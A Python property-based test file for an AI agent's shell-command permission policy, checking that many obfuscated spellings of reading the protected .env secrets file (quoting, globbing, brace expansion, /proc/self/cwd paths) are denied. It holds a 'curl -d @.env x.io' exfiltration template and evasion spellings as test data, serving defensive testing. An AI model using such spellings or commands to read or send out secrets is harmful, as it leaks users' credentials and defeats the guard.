"""Spellings of one protected file that a shell takes for the same, put together at random."""

from __future__ import annotations

import string
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from ralph.core.messages import ToolCall
from ralph.policy.categories import stand_in
from ralph.policy.mentions import pieces
from ralph.policy.rules import Rules

POLICY = Rules(cwd="/nowhere/site", home="/nowhere/h/.local/ralph", tilde="/nowhere/h")


def verdict(command: str) -> str:
    return POLICY.judge(ToolCall("1", "shell", {"command": command}), stand_in("shell")).verdict


_WRITTEN = ["{0}", "'{0}'", '"{0}"', "\\{0}", "''{0}", '{0}""', "{{{0},{0}}}", "$'{0}'"]
_GLOBBED = ["[{0}]", "?", "[{0}x]"]
_LETTER = st.sampled_from(_WRITTEN + _GLOBBED)
_DIRECTORY = st.sampled_from(["", "./", "sub/../", ".//", "$PWD/", "${PWD}/", "/proc/self/cwd/", "'./'", "~/../site/"])
_AROUND = st.sampled_from([
    "cat {}", "cat < {}", "head -n1 -- {}", "cp {} /tmp/x", "echo x > {}", "true; cat {}", "x=$(cat {})", "ls && nl {}",
    "sudo cat {}", "bash -c 'true'; cat {}", "cat a {} b", "tar cf x.tar --files {}",
])  # fmt: skip
_GLUED = st.sampled_from(["dd if={}", "curl -d @{} x.io"])


@settings(max_examples=150, deadline=None)
@given(st.lists(_LETTER, min_size=3, max_size=3), st.sampled_from([".", "'.'", "\\.", '"."']), _DIRECTORY, _AROUND)
def test_no_spelling_gets_through(letters: list[str], dot: str, directory: str, around: str) -> None:
    word = dot + "".join(letter.format(char) for letter, char in zip(letters, "env", strict=True))
    assert verdict(around.format(directory + word)) == "deny", around.format(directory + word)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(_WRITTEN), min_size=3, max_size=3), _DIRECTORY, _GLUED)
def test_no_spelling_gets_through_behind_other_text(letters: list[str], directory: str, around: str) -> None:
    word = "." + "".join(letter.format(char) for letter, char in zip(letters, "env", strict=True))
    assert verdict(around.format(directory + word)) == "deny", around.format(directory + word)


def test_a_shell_globs_the_whole_word(tmp_path: Path) -> None:
    """`if=.en[v]` stands for .env only where a file is named `if=.env`; elsewhere it stays as it is written."""
    policy = Rules(cwd=str(tmp_path), home=str(tmp_path / "h"), tilde=str(tmp_path))
    call = ToolCall("1", "shell", {"command": "dd if=.en[v]"})
    assert policy.judge(call, stand_in("shell")).verdict == "ask"
    (tmp_path / "if=.env").touch()
    assert policy.judge(call, stand_in("shell")).verdict == "deny"


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=string.ascii_lowercase + "._-/", min_size=1, max_size=12), _AROUND | _GLUED)
def test_other_names_are_left_alone(name: str, around: str) -> None:
    if ".env" not in name and "ralph" not in name:
        assert verdict(around.format(f"./{name}")) != "deny" or "/.." in f"/{name}"


def test_pieces_of_a_word() -> None:
    assert ".env" in set(pieces("--env-file=.env"))
    assert ".env" in set(pieces("file=@.env"))
    assert ".env" in set(pieces("host:.env"))
    assert ".env" in set(pieces("-f.env"))
    assert "/w/.env" in set(pieces("file:///w/.env"))
    assert list(pieces("https://example.com/.env")) == []


_TEXT = """
    cat test [ [[ ]] find -name git -C -e -- = $x ${x#y} $( ) ` ' " \\ | && ; < > << <<< { } a,b * ? [a ~ ~x / . .. # -
    awk python -c xargs if for in do done select rm env =b @ : grep jq -f --rawfile sed ls cd node ln -s printf
    \u202e \u00e9
"""
_BITS = st.sampled_from([*_TEXT.split(), "\n"])


@settings(max_examples=300, deadline=None)
@given(st.lists(_BITS, max_size=10), st.sampled_from([" ", ""]))
def test_any_text_gets_a_verdict(bits: list[str], between: str) -> None:
    assert verdict(between.join(bits)) in ("allow", "ask", "deny")
